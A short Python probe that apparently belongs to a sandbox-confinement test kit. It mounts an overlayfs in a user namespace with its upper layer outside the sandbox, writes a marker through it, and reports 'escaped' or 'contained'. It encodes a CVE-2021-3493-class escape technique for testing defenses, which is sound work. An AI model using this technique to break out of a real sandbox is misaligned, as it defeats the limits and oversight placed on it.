#!/usr/bin/python3
# Goal:    mount an overlay with the outside directory as upper layer and write through it
# Models:  overlayfs in a user namespace (CVE-2021-3493 class surface), path-based policy bypass
# Oracle:  marker
# Tier:    core
# Needs:   -
from ctk import *

mntns()
b = PROJ + "/o"
for d in ("", "/l", "/m"):
    os.mkdir(b + d)
os.makedirs(OUT + "/ovw", exist_ok=True)
os.makedirs(OUT + "/ovu", exist_ok=True)
mount(
    "ov",
    b + "/m",
    "overlay",
    0,
    "lowerdir=%s/l,upperdir=%s/ovu,workdir=%s/ovw%s" % (b, OUT, OUT, ",userxattr" if UID else ""),
)
mark(b + "/m/m-" + NONCE)
try:
    os.rename(OUT + "/ovu/m-" + NONCE, M)
except OSError as e:
    contained("wrote the overlay but %s" % e)
escaped("wrote through an overlay upper layer")
